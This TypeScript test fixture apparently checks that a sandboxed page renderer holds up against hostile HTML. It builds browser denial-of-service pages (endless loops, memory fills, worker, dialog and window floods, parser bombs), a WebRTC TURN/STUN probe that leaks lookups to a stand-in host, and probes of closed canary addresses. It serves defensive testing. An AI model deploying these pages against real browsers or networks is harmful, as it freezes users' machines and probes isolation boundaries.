/** Where a hostile page tries to get: an address that is closed to it. */
export interface Closed {
  readonly canary: string;
}

const document = (script: string, body = '') =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>x</title></head><body><h1>A card</h1>${body}<script>${script}</script></body></html>`;
const inWorker = (code: string) => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])));`;
const fill = 'const kept = []; for (let n = 0; n < 200; n++) kept.push(new Uint8Array(50e6).fill(n + 1)); for (;;);';
const loop = `data:text/javascript,${encodeURIComponent('for(;;);')}`;
const leak = (n: number) => `leak-${n}.siege.example`;

/** Each one is a way to take more than a page's share; `n` makes its address and its document another one. */
export const hostilePages: Readonly<Record<string, (n: number, closed: Closed) => string>> = {
  'shared-workers': () => document(`for (let n = 0; n < 200; n++) new SharedWorker('${loop}', 'w' + n)`),
  threads: () => document(`for (let n = 0; n < 2000; n++) new Worker('${loop}')`, '<img src="/held">'),
  titles: () => document(`for (let n = 0;; n++) document.title = 'x'.repeat(4000) + n`),
  dialogs: () => document(`for (;;) alert('x'.repeat(1e6))`),
  logs: () => document(`for (;;) console.log('x'.repeat(10000))`),
  frames: () =>
    document(
      `setInterval(() => { for (let n = 0; n < 50; n++) document.body.append(document.createElement('iframe')) })`,
    ),
  history: () =>
    document(`setInterval(() => { for (let n = 0; n < 500; n++) history.pushState(0, '', '?' + Math.random()) })`),
  requests: () =>
    document(`setInterval(() => { for (let n = 0; n < 500; n++) fetch('/x' + Math.random()).catch(() => {}) })`),
  windows: () => document(`setInterval(() => { for (let n = 0; n < 20; n++) open('about:blank') })`),
  loop: () => document('for (;;);'),
  'loop-later': () => document('onload = () => { for (;;); }'),
  'loop-when-left': () => document('onpagehide = onunload = onbeforeunload = () => { for (;;); }'),
  memory: () => document(fill),
  'memory-later': () => document(inWorker(fill)),
  'memory-behind-titles': () =>
    document(
      `setInterval(() => { for (let n = 0; n < 9000; n++) document.title = n + 'x'.repeat(4000) }); ${inWorker(fill)}`,
    ),
  // By a port that the gate refuses before it looks a name up: whoever is asked for it was asked by the browser.
  names: (n) =>
    document(`for (const url of ['turn:${leak(n)}:53?transport=tcp', 'turns:${leak(n)}:53?transport=tcp', 'stun:${leak(n)}:53']) {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: url, username: 'a', credential: 'b' }] });
      peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    }`),
  'closed-addresses': (_, { canary }) =>
    document(
      `fetch('${canary}').catch(() => {}); new WebSocket('${canary.replace('http', 'ws')}'); navigator.sendBeacon('${canary}');`,
      `<img src="${canary}"><iframe src="${canary}"></iframe><link rel="prefetch" href="${canary}">`,
    ),
  // Documents that are hard to read rather than to draw.
  'deep-document': () => '<template></template>'.repeat(10) + '<div>'.repeat(100_000) + '</x>'.repeat(125_000),
  'noscript-document': () => '<noscript>'.repeat(400_000),
  'heads-document': () => '<head><template><b><svg>'.repeat(150_000),
  'open-document': () => '<'.repeat(9_500_000),
  'attributes-document': () => `<p ${'a=b '.repeat(2_300_000)}>`,
};
